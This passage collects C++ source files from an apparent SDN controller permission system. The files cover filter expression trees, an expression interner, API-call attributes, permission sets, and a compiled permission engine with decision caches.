
  struct Stats {
    std::size_t uniqueExprs = 0;
    std::uint64_t hits = 0;    ///< Nodes answered by an existing entry.
    std::uint64_t misses = 0;  ///< Nodes that inserted a new entry.
  };
  Stats stats() const;

 private:
  /// Node identity once children are canonical: the op plus the canonical
  /// child/filter pointers. No structural comparison needed — children were
  /// canonicalized first, so pointer equality IS structural equality.
  struct NodeKey {
    FilterExpr::Op op = FilterExpr::Op::kSingleton;
    const Filter* filter = nullptr;
    const FilterExpr* lhs = nullptr;
    const FilterExpr* rhs = nullptr;

    bool operator==(const NodeKey&) const = default;
  };
  struct NodeKeyHash {
    std::size_t operator()(const NodeKey& key) const;
  };

  FilterExprPtr internLocked(const FilterExprPtr& expr);

  mutable std::mutex mutex_;
  std::unordered_map<NodeKey, FilterExprPtr, NodeKeyHash> nodes_;
  /// Fast path: trees already canonical are recognized by their root
  /// pointer without re-walking (members are only inserted once every
  /// descendant is canonical too).
  std::unordered_set<const FilterExpr*> canonical_;
  std::uint64_t hits_ = 0;
  std::uint64_t misses_ = 0;
};

/// Canonical (hash-consed) form of @p expr via ExprInterner::global().
FilterExprPtr internExpr(const FilterExprPtr& expr);

}  // namespace sdnshield::perm
