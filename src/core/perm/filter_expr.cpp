#include "core/perm/filter_expr.h"

#include <stdexcept>

namespace sdnshield::perm {

FilterExprPtr FilterExpr::singleton(FilterPtr filter) {
  if (!filter) throw std::invalid_argument("singleton: null filter");
  return FilterExprPtr{
      new FilterExpr(Op::kSingleton, std::move(filter), nullptr, nullptr)};
}

FilterExprPtr FilterExpr::conj(FilterExprPtr lhs, FilterExprPtr rhs) {
  if (!lhs || !rhs) throw std::invalid_argument("conj: null operand");
  return FilterExprPtr{
      new FilterExpr(Op::kAnd, nullptr, std::move(lhs), std::move(rhs))};
}

FilterExprPtr FilterExpr::disj(FilterExprPtr lhs, FilterExprPtr rhs) {
  if (!lhs || !rhs) throw std::invalid_argument("disj: null operand");
  return FilterExprPtr{
      new FilterExpr(Op::kOr, nullptr, std::move(lhs), std::move(rhs))};
}

FilterExprPtr FilterExpr::negate(FilterExprPtr operand) {
  if (!operand) throw std::invalid_argument("negate: null operand");
  return FilterExprPtr{
      new FilterExpr(Op::kNot, nullptr, std::move(operand), nullptr)};
}

bool FilterExpr::evaluate(const ApiCall& call) const {
  switch (op_) {
    case Op::kSingleton:
      return filter_->evaluate(call);
    case Op::kAnd:
      return lhs_->evaluate(call) && rhs_->evaluate(call);
    case Op::kOr:
      return lhs_->evaluate(call) || rhs_->evaluate(call);
    case Op::kNot:
      return !lhs_->evaluate(call);
  }
  return false;
}

std::size_t FilterExpr::leafCount() const {
  switch (op_) {
    case Op::kSingleton:
      return 1;
    case Op::kAnd:
    case Op::kOr:
      return lhs_->leafCount() + rhs_->leafCount();
    case Op::kNot:
      return lhs_->leafCount();
  }
  return 0;
}

bool FilterExpr::structurallyEquals(const FilterExpr& other) const {
  if (op_ != other.op_) return false;
  switch (op_) {
    case Op::kSingleton:
      return filter_->equals(*other.filter_);
    case Op::kAnd:
    case Op::kOr:
      return lhs_->structurallyEquals(*other.lhs_) &&
             rhs_->structurallyEquals(*other.rhs_);
    case Op::kNot:
      return lhs_->structurallyEquals(*other.lhs_);
  }
  return false;
}

void FilterExpr::collectStubs(std::vector<std::string>& out) const {
  switch (op_) {
    case Op::kSingleton:
      if (const auto* stub = dynamic_cast<const StubFilter*>(filter_.get())) {
        out.push_back(stub->name());
      }
      return;
    case Op::kAnd:
    case Op::kOr:
      lhs_->collectStubs(out);
      rhs_->collectStubs(out);
      return;
    case Op::kNot:
      lhs_->collectStubs(out);
      return;
  }
}

FilterExprPtr FilterExpr::substituteStubs(
    const FilterExprPtr& expr,
    const std::map<std::string, FilterExprPtr>& bindings) {
  switch (expr->op_) {
    case Op::kSingleton: {
      const auto* stub = dynamic_cast<const StubFilter*>(expr->filter_.get());
      if (stub == nullptr) return expr;
      auto it = bindings.find(stub->name());
      return it == bindings.end() ? expr : it->second;
    }
    case Op::kAnd:
    case Op::kOr: {
      FilterExprPtr lhs = substituteStubs(expr->lhs_, bindings);
      FilterExprPtr rhs = substituteStubs(expr->rhs_, bindings);
      if (lhs == expr->lhs_ && rhs == expr->rhs_) return expr;
      return expr->op_ == Op::kAnd ? conj(std::move(lhs), std::move(rhs))
                                   : disj(std::move(lhs), std::move(rhs));
    }
    case Op::kNot: {
      FilterExprPtr operand = substituteStubs(expr->lhs_, bindings);
      return operand == expr->lhs_ ? expr : negate(std::move(operand));
    }
  }
  return expr;
}

std::string FilterExpr::toString() const {
  switch (op_) {
    case Op::kSingleton:
      return filter_->toString();
    case Op::kAnd:
      return "(" + lhs_->toString() + " AND " + rhs_->toString() + ")";
    case Op::kOr:
      return "(" + lhs_->toString() + " OR " + rhs_->toString() + ")";
    case Op::kNot:
      return "NOT (" + lhs_->toString() + ")";
  }
  return "?";
}

}  // namespace sdnshield::perm
