// Filter composition (paper §IV-b): logical expressions over singleton
// filters with conjunction, disjunction and negation. Expressions are
// immutable trees shared by shared_ptr; composition never mutates operands.
#pragma once

#include <map>
#include <memory>
#include <string>
#include <vector>

#include "core/perm/filter.h"

namespace sdnshield::perm {

class FilterExpr;
using FilterExprPtr = std::shared_ptr<const FilterExpr>;

class FilterExpr {
 public:
  enum class Op { kSingleton, kAnd, kOr, kNot };

  // --- constructors ---------------------------------------------------------
  static FilterExprPtr singleton(FilterPtr filter);
  static FilterExprPtr conj(FilterExprPtr lhs, FilterExprPtr rhs);
  static FilterExprPtr disj(FilterExprPtr lhs, FilterExprPtr rhs);
  static FilterExprPtr negate(FilterExprPtr operand);

  // --- structure -------------------------------------------------------------
  Op op() const { return op_; }
  const FilterPtr& filter() const { return filter_; }       // kSingleton.
  const FilterExprPtr& lhs() const { return lhs_; }          // kAnd/kOr/kNot.
  const FilterExprPtr& rhs() const { return rhs_; }          // kAnd/kOr.

  /// Labels the API call by recursive evaluation.
  bool evaluate(const ApiCall& call) const;

  /// Total number of singleton leaves (complexity measure for Figure 5's
  /// small/medium/large manifests).
  std::size_t leafCount() const;

  bool structurallyEquals(const FilterExpr& other) const;

  /// Collects the names of unresolved stub filters.
  void collectStubs(std::vector<std::string>& out) const;

  /// Returns a tree with stub filters replaced per @p bindings; stubs
  /// without a binding are kept. Shares untouched subtrees.
  static FilterExprPtr substituteStubs(
      const FilterExprPtr& expr,
      const std::map<std::string, FilterExprPtr>& bindings);

  std::string toString() const;

 private:
  FilterExpr(Op op, FilterPtr filter, FilterExprPtr lhs, FilterExprPtr rhs)
      : op_(op),
        filter_(std::move(filter)),
        lhs_(std::move(lhs)),
        rhs_(std::move(rhs)) {}

  Op op_;
  FilterPtr filter_;
  FilterExprPtr lhs_;
  FilterExprPtr rhs_;
};

}  // namespace sdnshield::perm
