// The attribute model of a mediated API call. Every call an app issues —
// northbound SDN API or host system call — is reified into an ApiCall value
// carrying the caller identity and the runtime arguments/context ("attributes"
// in the paper's terminology) that permission filters inspect.
#pragma once

#include <cstddef>
#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "core/perm/token.h"
#include "of/actions.h"
#include "of/flow_mod.h"
#include "of/match.h"
#include "of/messages.h"

namespace sdnshield::perm {

enum class ApiCallType {
  kInsertFlow,
  kModifyFlow,
  kDeleteFlow,
  kReadFlowTable,
  kSubscribeFlowEvent,
  kReadTopology,
  kModifyTopology,
  kSubscribeTopologyEvent,
  kReadStatistics,
  kSubscribeErrorEvent,
  kReadPayload,
  kSendPacketOut,
  kSubscribePacketIn,
  kHostNetworkAccess,
  kFileSystemAccess,
  kProcessRuntimeAccess,
  kMarketAdmin,  ///< App-market lifecycle operation (policy push, revoke).
};

std::string toString(ApiCallType type);

/// The token an API call requires (the coarse-grained check).
Token requiredToken(ApiCallType type);

/// What an app does with an event subscription (inspected by callback
/// filters: plain observation is always allowed by the event token itself;
/// interception/ordering need the corresponding filter capability).
enum class CallbackOp { kObserve, kIntercept, kReorder };

struct ApiCall {
  ApiCallType type = ApiCallType::kReadTopology;
  of::AppId app = 0;

  // --- flow-call attributes ----------------------------------------------
  std::optional<of::DatapathId> dpid;
  std::optional<of::FlowMatch> match;
  std::optional<of::ActionList> actions;
  std::optional<std::uint16_t> priority;
  /// True when the targeted flow(s) are owned by the caller. Populated by the
  /// ownership tracker for delete/modify/read; always true for inserts.
  bool ownFlow = true;
  /// Rules the app would have installed on the switch after this call
  /// (table-size filter input).
  std::optional<std::size_t> ruleCountAfter;

  // --- statistics ---------------------------------------------------------
  std::optional<of::StatsLevel> statsLevel;

  // --- packet-out ---------------------------------------------------------
  bool pktOutFromPacketIn = false;

  // --- events -------------------------------------------------------------
  std::optional<CallbackOp> callbackOp;

  // --- topology elements touched -----------------------------------------
  std::vector<of::DatapathId> topoSwitches;
  std::vector<std::pair<of::DatapathId, of::DatapathId>> topoLinks;

  // --- host system --------------------------------------------------------
  std::optional<of::Ipv4Address> remoteIp;
  std::optional<std::uint16_t> remotePort;
  std::optional<std::string> path;  ///< File path or process command line.

  std::string toString() const;

  // --- factories for common call shapes ------------------------------------
  static ApiCall insertFlow(of::AppId app, of::DatapathId dpid,
                            const of::FlowMod& mod);
  static ApiCall deleteFlow(of::AppId app, of::DatapathId dpid,
                            const of::FlowMatch& match, bool ownFlow);
  static ApiCall readFlowTable(of::AppId app, of::DatapathId dpid);
  static ApiCall readStatistics(of::AppId app, const of::StatsRequest& req);
  static ApiCall sendPacketOut(of::AppId app, const of::PacketOut& pkt);
  static ApiCall readTopology(of::AppId app);
  static ApiCall hostNetwork(of::AppId app, of::Ipv4Address remoteIp,
                             std::uint16_t remotePort);
  static ApiCall fileSystem(of::AppId app, std::string path);
  static ApiCall processRuntime(of::AppId app, std::string command);
  static ApiCall subscribe(of::AppId app, ApiCallType eventType,
                           CallbackOp op = CallbackOp::kObserve);
  /// An app-market lifecycle call; @p operation names it for the audit log
  /// ("update_policy", "revoke 3", ...).
  static ApiCall marketAdmin(of::AppId app, std::string operation);
};

}  // namespace sdnshield::perm
