#include "core/perm/api_call.h"

#include <sstream>

namespace sdnshield::perm {

std::string toString(ApiCallType type) {
  switch (type) {
    case ApiCallType::kInsertFlow:
      return "insert_flow";
    case ApiCallType::kModifyFlow:
      return "modify_flow";
    case ApiCallType::kDeleteFlow:
      return "delete_flow";
    case ApiCallType::kReadFlowTable:
      return "read_flow_table";
    case ApiCallType::kSubscribeFlowEvent:
      return "subscribe_flow_event";
    case ApiCallType::kReadTopology:
      return "read_topology";
    case ApiCallType::kModifyTopology:
      return "modify_topology";
    case ApiCallType::kSubscribeTopologyEvent:
      return "subscribe_topology_event";
    case ApiCallType::kReadStatistics:
      return "read_statistics";
    case ApiCallType::kSubscribeErrorEvent:
      return "subscribe_error_event";
    case ApiCallType::kReadPayload:
      return "read_payload";
    case ApiCallType::kSendPacketOut:
      return "send_packet_out";
    case ApiCallType::kSubscribePacketIn:
      return "subscribe_packet_in";
    case ApiCallType::kHostNetworkAccess:
      return "host_network_access";
    case ApiCallType::kFileSystemAccess:
      return "file_system_access";
    case ApiCallType::kProcessRuntimeAccess:
      return "process_runtime_access";
    case ApiCallType::kMarketAdmin:
      return "market_admin";
  }
  return "unknown_call";
}

Token requiredToken(ApiCallType type) {
  switch (type) {
    case ApiCallType::kInsertFlow:
    case ApiCallType::kModifyFlow:
      return Token::kInsertFlow;  // Table II: insert covers modify.
    case ApiCallType::kDeleteFlow:
      return Token::kDeleteFlow;
    case ApiCallType::kReadFlowTable:
      return Token::kReadFlowTable;
    case ApiCallType::kSubscribeFlowEvent:
      return Token::kFlowEvent;
    case ApiCallType::kReadTopology:
      return Token::kVisibleTopology;
    case ApiCallType::kModifyTopology:
      return Token::kModifyTopology;
    case ApiCallType::kSubscribeTopologyEvent:
      return Token::kTopologyEvent;
    case ApiCallType::kReadStatistics:
      return Token::kReadStatistics;
    case ApiCallType::kSubscribeErrorEvent:
      return Token::kErrorEvent;
    case ApiCallType::kReadPayload:
      return Token::kReadPayload;
    case ApiCallType::kSendPacketOut:
      return Token::kSendPktOut;
    case ApiCallType::kSubscribePacketIn:
      return Token::kPktInEvent;
    case ApiCallType::kHostNetworkAccess:
      return Token::kHostNetwork;
    case ApiCallType::kFileSystemAccess:
      return Token::kFileSystem;
    case ApiCallType::kProcessRuntimeAccess:
      return Token::kProcessRuntime;
    case ApiCallType::kMarketAdmin:
      return Token::kMarketAdmin;
  }
  return Token::kProcessRuntime;
}

std::string ApiCall::toString() const {
  std::ostringstream out;
  out << perm::toString(type) << " app=" << app;
  if (dpid) out << " dpid=" << *dpid;
  if (match) out << " match=" << match->toString();
  if (actions) out << " actions=" << of::toString(*actions);
  if (priority) out << " prio=" << *priority;
  if (statsLevel) out << " level=" << of::toString(*statsLevel);
  if (remoteIp) out << " remote=" << remoteIp->toString();
  if (remotePort) out << ":" << *remotePort;
  if (path) out << " path=" << *path;
  return out.str();
}

ApiCall ApiCall::insertFlow(of::AppId app, of::DatapathId dpid,
                            const of::FlowMod& mod) {
  ApiCall call;
  call.type = (mod.command == of::FlowModCommand::kModify ||
               mod.command == of::FlowModCommand::kModifyStrict)
                  ? ApiCallType::kModifyFlow
                  : ApiCallType::kInsertFlow;
  call.app = app;
  call.dpid = dpid;
  call.match = mod.match;
  call.actions = mod.actions;
  call.priority = mod.priority;
  return call;
}

ApiCall ApiCall::deleteFlow(of::AppId app, of::DatapathId dpid,
                            const of::FlowMatch& match, bool ownFlow) {
  ApiCall call;
  call.type = ApiCallType::kDeleteFlow;
  call.app = app;
  call.dpid = dpid;
  call.match = match;
  call.ownFlow = ownFlow;
  return call;
}

ApiCall ApiCall::readFlowTable(of::AppId app, of::DatapathId dpid) {
  ApiCall call;
  call.type = ApiCallType::kReadFlowTable;
  call.app = app;
  call.dpid = dpid;
  return call;
}

ApiCall ApiCall::readStatistics(of::AppId app, const of::StatsRequest& req) {
  ApiCall call;
  call.type = ApiCallType::kReadStatistics;
  call.app = app;
  call.dpid = req.dpid;
  call.statsLevel = req.level;
  if (req.level == of::StatsLevel::kFlow) call.match = req.match;
  return call;
}

ApiCall ApiCall::sendPacketOut(of::AppId app, const of::PacketOut& pkt) {
  ApiCall call;
  call.type = ApiCallType::kSendPacketOut;
  call.app = app;
  call.dpid = pkt.dpid;
  call.actions = pkt.actions;
  call.pktOutFromPacketIn = pkt.fromPacketIn;
  return call;
}

ApiCall ApiCall::readTopology(of::AppId app) {
  ApiCall call;
  call.type = ApiCallType::kReadTopology;
  call.app = app;
  return call;
}

ApiCall ApiCall::hostNetwork(of::AppId app, of::Ipv4Address remoteIp,
                             std::uint16_t remotePort) {
  ApiCall call;
  call.type = ApiCallType::kHostNetworkAccess;
  call.app = app;
  call.remoteIp = remoteIp;
  call.remotePort = remotePort;
  return call;
}

ApiCall ApiCall::fileSystem(of::AppId app, std::string path) {
  ApiCall call;
  call.type = ApiCallType::kFileSystemAccess;
  call.app = app;
  call.path = std::move(path);
  return call;
}

ApiCall ApiCall::processRuntime(of::AppId app, std::string command) {
  ApiCall call;
  call.type = ApiCallType::kProcessRuntimeAccess;
  call.app = app;
  call.path = std::move(command);
  return call;
}

ApiCall ApiCall::marketAdmin(of::AppId app, std::string operation) {
  ApiCall call;
  call.type = ApiCallType::kMarketAdmin;
  call.app = app;
  call.path = std::move(operation);  // Reuses the free-form text attribute.
  return call;
}

ApiCall ApiCall::subscribe(of::AppId app, ApiCallType eventType,
                           CallbackOp op) {
  ApiCall call;
  call.type = eventType;
  call.app = app;
  call.callbackOp = op;
  return call;
}

}  // namespace sdnshield::perm
