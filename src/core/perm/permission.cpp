#include "core/perm/permission.h"

#include <sstream>

namespace sdnshield::perm {

std::string Permission::toString() const {
  std::string out = "PERM " + perm::toString(token);
  if (filter) out += " LIMITING " + filter->toString();
  return out;
}

void PermissionSet::grant(Token token, FilterExprPtr filter) {
  auto it = grants_.find(token);
  if (it == grants_.end()) {
    grants_.emplace(token, std::move(filter));
    return;
  }
  if (!it->second || !filter) {
    it->second = nullptr;  // Unrestricted absorbs any filter.
    return;
  }
  it->second = FilterExpr::disj(it->second, std::move(filter));
}

void PermissionSet::restrict(Token token, FilterExprPtr filter) {
  auto it = grants_.find(token);
  if (it == grants_.end() || !filter) return;
  it->second =
      it->second ? FilterExpr::conj(it->second, std::move(filter)) : filter;
}

void PermissionSet::revoke(Token token) { grants_.erase(token); }

std::optional<FilterExprPtr> PermissionSet::filterFor(Token token) const {
  auto it = grants_.find(token);
  if (it == grants_.end()) return std::nullopt;
  return it->second;
}

std::vector<Permission> PermissionSet::permissions() const {
  std::vector<Permission> out;
  out.reserve(grants_.size());
  for (const auto& [token, filter] : grants_) {
    out.push_back(Permission{token, filter});
  }
  return out;
}

bool PermissionSet::includes(const PermissionSet& other) const {
  for (const auto& [token, otherFilter] : other.grants_) {
    auto it = grants_.find(token);
    if (it == grants_.end()) return false;
    if (!filterIncludes(it->second, otherFilter)) return false;
  }
  return true;
}

bool PermissionSet::equivalent(const PermissionSet& other) const {
  return includes(other) && other.includes(*this);
}

PermissionSet PermissionSet::meet(const PermissionSet& a,
                                  const PermissionSet& b) {
  PermissionSet out;
  for (const auto& [token, filterA] : a.grants_) {
    auto it = b.grants_.find(token);
    if (it == b.grants_.end()) continue;
    const FilterExprPtr& filterB = it->second;
    if (!filterA && !filterB) {
      out.grants_.emplace(token, nullptr);
    } else if (!filterA) {
      out.grants_.emplace(token, filterB);
    } else if (!filterB) {
      out.grants_.emplace(token, filterA);
    } else if (filterIncludes(filterA, filterB)) {
      // Keep the narrower operand verbatim when inclusion is provable: the
      // reconciled permission stays readable instead of growing conjuncts.
      out.grants_.emplace(token, filterB);
    } else if (filterIncludes(filterB, filterA)) {
      out.grants_.emplace(token, filterA);
    } else {
      out.grants_.emplace(token, FilterExpr::conj(filterA, filterB));
    }
  }
  return out;
}

PermissionSet PermissionSet::join(const PermissionSet& a,
                                  const PermissionSet& b) {
  PermissionSet out;
  out.grants_ = a.grants_;
  for (const auto& [token, filterB] : b.grants_) {
    out.grant(token, filterB);
  }
  return out;
}

std::vector<std::string> PermissionSet::collectStubs() const {
  std::vector<std::string> out;
  for (const auto& [_, filter] : grants_) {
    if (filter) filter->collectStubs(out);
  }
  return out;
}

PermissionSet PermissionSet::substituteStubs(
    const std::map<std::string, FilterExprPtr>& bindings) const {
  PermissionSet out;
  for (const auto& [token, filter] : grants_) {
    out.grants_.emplace(
        token, filter ? FilterExpr::substituteStubs(filter, bindings) : nullptr);
  }
  return out;
}

std::string PermissionSet::toString() const {
  std::ostringstream out;
  for (const auto& [token, filter] : grants_) {
    out << Permission{token, filter}.toString() << "\n";
  }
  return out.str();
}

}  // namespace sdnshield::perm
