// The permission engine (paper §VI-B): compiles permission manifests into
// flat checking programs and mediates every API call on the enforcement hot
// path. Checking is stateless, allocation-free on the allow path, and safe
// to run from many kernel-deputy threads concurrently.
//
// Hot-path design (three layers, see DESIGN.md "Permission hot path"):
//  1. Singleton filters are interned (core/perm/interner.h) so duplicate
//     literals across programs share one slot and one evaluation.
//  2. Filter expressions are optimized before compilation — constant
//     folding (stubs always deny, virtual-topology markers always pass),
//     duplicate-operand elimination, complement detection (X AND NOT X),
//     cheap-filters-first reordering — and compiled to a branch program
//     with short-circuit jumps evaluated by a single-register VM (no
//     evaluation stack to overflow).
//  3. PermissionEngine::check memoizes decisions per (app, canonical call
//     key) in a thread-local direct-mapped cache, and resolves the app's
//     compiled set through a per-thread epoch cache validated by a single
//     version-counter load, touching the shared table only when the table
//     actually changed.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <list>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <set>
#include <string>
#include <unordered_map>
#include <vector>

#include "core/perm/api_call.h"
#include "core/perm/filter.h"
#include "core/perm/permission.h"

namespace sdnshield::engine {

/// The outcome of a permission check.
struct Decision {
  bool allowed = false;
  /// Populated on deny: which token was missing or which filter failed.
  std::string reason;

  static Decision allow() { return Decision{true, {}}; }
  static Decision deny(std::string reason) {
    return Decision{false, std::move(reason)};
  }
};

/// Process-wide counters of the decision memo caches (see
/// PermissionEngine::check). The caches themselves are thread-local; the
/// counters aggregate across threads so end-to-end harnesses can report a
/// hit rate for checks performed on deputy threads.
struct MemoStats {
  std::uint64_t hits = 0;
  std::uint64_t misses = 0;

  double hitRate() const {
    std::uint64_t total = hits + misses;
    return total == 0 ? 0.0 : static_cast<double>(hits) / total;
  }
};

/// A permission set compiled to per-token short-circuit branch programs.
class CompiledPermissions {
 public:
  /// Nesting depth bound of one compiled filter program (after
  /// optimization, which flattens AND/OR chains and folds NOT-chains, so
  /// only pathologically alternating expressions hit it). Deeper
  /// expressions make the constructor throw std::length_error.
  static constexpr std::size_t kMaxProgramDepth = 64;

  /// Recursion guard for the optimizer/compiler on raw (pre-flattening)
  /// trees; parser- or algebra-built chains beyond this are rejected with
  /// std::length_error before any recursive pass runs.
  static constexpr std::size_t kMaxExpressionDepth = 4096;

  explicit CompiledPermissions(const perm::PermissionSet& permissions);

  /// Evaluates the call against the compiled program. The required token
  /// must be granted and its filter program must label the call true.
  Decision check(const perm::ApiCall& call) const;

  bool hasToken(perm::Token token) const;

  /// First physical-topology filter granted on visible_topology, if any —
  /// the deputy uses it to project topology reads.
  const perm::PhysicalTopologyFilter* topologyProjection() const {
    return topologyProjection_.get();
  }

  /// Virtual-topology members when a VIRTUAL filter is granted on
  /// visible_topology (empty set = SINGLE_BIG_SWITCH over everything).
  const std::optional<std::set<of::DatapathId>>& virtualTopology() const {
    return virtualMembers_;
  }

  /// Source permissions (for introspection / reporting).
  const perm::PermissionSet& source() const { return source_; }

  /// Instructions in a token's compiled program (0 = unrestricted grant or
  /// token absent); introspection for tests and benches — the optimizer's
  /// folds show up as shorter programs.
  std::size_t programLength(perm::Token token) const;

  /// Process-unique identity of this compiled set; memo-cache entries are
  /// keyed on it, so a recompiled (reinstalled) set never aliases a stale
  /// decision.
  std::uint64_t instanceId() const { return instanceId_; }

 private:
  // One-register branch VM. kPush loads a filter label into the register;
  // kJumpIfFalse/kJumpIfTrue short-circuit AND/OR: taken, the register
  // already holds the result; not taken, the right operand overwrites it.
  enum class OpCode : std::uint8_t {
    kPush,         ///< reg = filters_[arg]->evaluate(call)
    kNot,          ///< reg = !reg
    kJumpIfFalse,  ///< if (!reg) goto arg
    kJumpIfTrue,   ///< if (reg) goto arg
    kConst,        ///< reg = (arg != 0)
  };
  struct Instr {
    OpCode op = OpCode::kPush;
    std::uint32_t arg = 0;  // Filter index, jump target, or constant.
  };
  struct TokenProgram {
    bool granted = false;
    std::vector<Instr> code;  // Empty = unrestricted grant.
  };

  void compileExpr(const perm::FilterExprPtr& expr, TokenProgram& program);
  std::uint32_t filterSlot(const perm::FilterPtr& filter);
  bool run(const TokenProgram& program, const perm::ApiCall& call) const;

  perm::PermissionSet source_;
  // Indexed by Token enum value; all 16 tokens (incl. market_admin) fit
  // exactly — widen when perm::Token grows past 16 values.
  TokenProgram programs_[16];
  std::vector<perm::FilterPtr> filters_;  // Interned + deduplicated.
  std::map<const perm::Filter*, std::uint32_t> filterSlots_;
  std::shared_ptr<const perm::PhysicalTopologyFilter> topologyProjection_;
  std::optional<std::set<of::DatapathId>> virtualMembers_;
  std::uint64_t instanceId_ = 0;
};

/// Process-wide cache of compiled permission programs, keyed on the
/// canonical text of the source permission set (PermissionSet::toString is
/// deterministic — tokens live in a std::map). CompiledPermissions is
/// app-agnostic and immutable, so one compiled object is safely shared
/// across apps, engines, and permission epochs; a market-wide updatePolicy
/// where most apps keep their grants compiles each distinct set once
/// instead of once per app. Entries hold strong references; at capacity the
/// least-recently-obtained entry is evicted (outstanding shared_ptrs — and
/// the thread-memo entries keyed on their instanceId() — stay valid as long
/// as any holder keeps them), so a market whose distinct-set population
/// exceeds the capacity keeps its hot programs cached instead of losing the
/// whole table to a wholesale clear.
class CompiledProgramCache {
 public:
  /// Default capacity: the LRU eviction threshold. Far above any real
  /// market (10k apps share a handful of policy-shaped sets).
  static constexpr std::size_t kMaxEntries = 4096;

  /// The process-wide cache used by PermissionEngine::install/installAll.
  static CompiledProgramCache& global();

  /// The compiled program for @p permissions: an existing entry when one
  /// matches, else a fresh compilation (outside the lock; concurrent
  /// compilers of the same set race benignly — first insert wins, both
  /// callers get the winner). Compilation errors (std::length_error)
  /// propagate and cache nothing. When disabled, always compiles fresh.
  std::shared_ptr<const CompiledPermissions> obtain(
      const perm::PermissionSet& permissions);

  struct Stats {
    std::uint64_t hits = 0;
    std::uint64_t misses = 0;  ///< Fresh compilations (incl. disabled mode).
    std::uint64_t evictions = 0;  ///< LRU evictions at capacity.
    std::size_t entries = 0;
  };
  Stats stats() const;

  /// Drops every entry (outstanding programs stay valid). Test hook.
  void clear();

  /// Bench/test hook: disabled, obtain() compiles fresh every call —
  /// the PR 5 behaviour — so before/after comparisons run in one binary.
  void setEnabled(bool enabled);
  bool enabled() const;

  /// Test hook: shrinks the LRU capacity (evicting cold entries as needed)
  /// so eviction behaviour is testable without 4k compilations.
  void setMaxEntries(std::size_t maxEntries);
  std::size_t maxEntries() const;

 private:
  struct Entry {
    std::shared_ptr<const CompiledPermissions> program;
    /// Position in lru_; spliced to the front on every hit.
    std::list<std::string>::iterator recency;
  };

  /// Evicts from the LRU tail until size < maxEntries_. Caller holds mutex_.
  void evictToCapacityLocked();

  mutable std::mutex mutex_;
  std::unordered_map<std::string, Entry> entries_;
  std::list<std::string> lru_;  ///< Front = most recently obtained.
  std::size_t maxEntries_ = kMaxEntries;
  bool enabled_ = true;
  std::uint64_t hits_ = 0;
  std::uint64_t misses_ = 0;
  std::uint64_t evictions_ = 0;
};

/// Registry of compiled permissions per app, the controller-wide mediator.
/// The kernel app (id 0) is always fully privileged.
///
/// check() never blocks on writers in the common case: each thread caches
/// its last (app -> compiled) resolution, validated by one acquire load of
/// a version counter, and repeated decisions are served from a thread-local
/// memo cache keyed on the canonicalized call attributes (exact key
/// comparison — a hash collision can never flip a decision). Only a cold
/// resolution copies the table snapshot under a micro-mutex held for two
/// shared_ptr copies. (libstdc++'s std::atomic<std::shared_ptr> is the
/// same thing — an embedded spinlock — but its GCC 12 implementation
/// unlocks with a relaxed RMW in load(), a formal data race that TSan
/// reports; the plain mutex is equivalent in cost and standard-clean.)
class PermissionEngine {
 public:
  PermissionEngine();

  /// Compiles and installs the permissions of an app (at app load time).
  void install(of::AppId app, const perm::PermissionSet& permissions);
  void uninstall(of::AppId app);

  /// Atomically replaces the grants of many apps in ONE permission epoch:
  /// every set is compiled outside the locks, then a single table
  /// copy-and-swap publishes all of them together with one version bump.
  /// A concurrent check() observes either every pre-swap grant or every
  /// post-swap grant — never a mixture — which is what makes a live
  /// updatePolicy over the whole app market safe (the RCU-style epoch swap
  /// the market subsystem builds on). Throws (std::length_error from
  /// compilation) without touching the table.
  void installAll(
      const std::vector<std::pair<of::AppId, perm::PermissionSet>>& grants);

  /// installAll for callers that already hold compiled programs (the
  /// market's incremental updatePolicy: one CompiledProgramCache::obtain
  /// per reconcile unit, every member app sharing the program). Skips the
  /// per-app compile/lookup entirely — the swap cost is one map insert per
  /// app — and bumps the epoch once, exactly like the compiling overload.
  /// Sharing one program across apps is decision-safe: the thread-local
  /// memo keys on (program instance, serialized call incl. call.app).
  void installAll(
      std::vector<std::pair<of::AppId,
                            std::shared_ptr<const CompiledPermissions>>>
          programs);

  /// Current permission epoch: bumped once per install/uninstall/installAll
  /// swap. Two equal reads bracket a window in which no grant changed.
  std::uint64_t epoch() const {
    return version_.load(std::memory_order_acquire);
  }

  /// Number of apps with installed permissions (leak-detection surface).
  std::size_t installedCount() const { return snapshot()->size(); }

  /// Checks one API call. Unknown apps are denied everything.
  Decision check(const perm::ApiCall& call) const;

  /// Compiled permissions of an app (nullptr when not installed).
  std::shared_ptr<const CompiledPermissions> compiled(of::AppId app) const;

  /// Process-wide decision memo counters (hits/misses recorded by any
  /// engine on any thread since the last reset).
  static MemoStats memoStats();
  static void resetMemoStats();

  /// Clears the CALLING thread's decision memo and cached app resolution.
  /// The shard runtime runs this on every loop inside the publish fence so
  /// each shard's memo domain hands over explicitly at an epoch boundary
  /// (the epoch-validated memo would lazily converge anyway; the fence
  /// makes the handover a barrier the cross-shard protocol can order on).
  static void resetThreadMemo();

  /// Hook invoked after every installAll epoch publish, outside the engine
  /// locks. The shard runtime installs a cross-shard fence here (DESIGN.md
  /// §16); empty (the default) is a no-op. The hook must not call back into
  /// install/installAll/uninstall on the same engine.
  void setPublishFence(std::function<void()> fence);

 private:
  using AppMap = std::map<of::AppId, std::shared_ptr<const CompiledPermissions>>;

  std::shared_ptr<const AppMap> snapshot() const {
    std::lock_guard lock(snapshotMutex_);
    return apps_;
  }

  /// Guards only the apps_ pointer itself (held for a shared_ptr copy, not
  /// for compilation or map copying).
  mutable std::mutex snapshotMutex_;
  std::shared_ptr<const AppMap> apps_;
  std::mutex writeMutex_;  // Serializes install/uninstall copy-and-swap.
  mutable std::mutex fenceMutex_;  // Guards publishFence_ (set vs. invoke).
  std::function<void()> publishFence_;

  /// Process-unique engine identity + monotonic table version. check()
  /// threads cache their last (app -> compiled) resolution keyed on
  /// (engineId_, version_): a relaxed-cost version compare replaces the
  /// snapshot copy + map lookup on the hot path, and any
  /// install/uninstall bumps the version, invalidating every thread's
  /// cached resolution at its next check.
  std::uint64_t engineId_ = 0;
  std::atomic<std::uint64_t> version_{1};
};

}  // namespace sdnshield::engine
