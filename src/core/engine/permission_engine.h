// The permission engine (paper §VI-B): compiles permission manifests into
// flat checking programs and mediates every API call on the enforcement hot
// path. Checking is stateless, allocation-free on the allow path, and safe
// to run from many kernel-deputy threads concurrently.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <set>
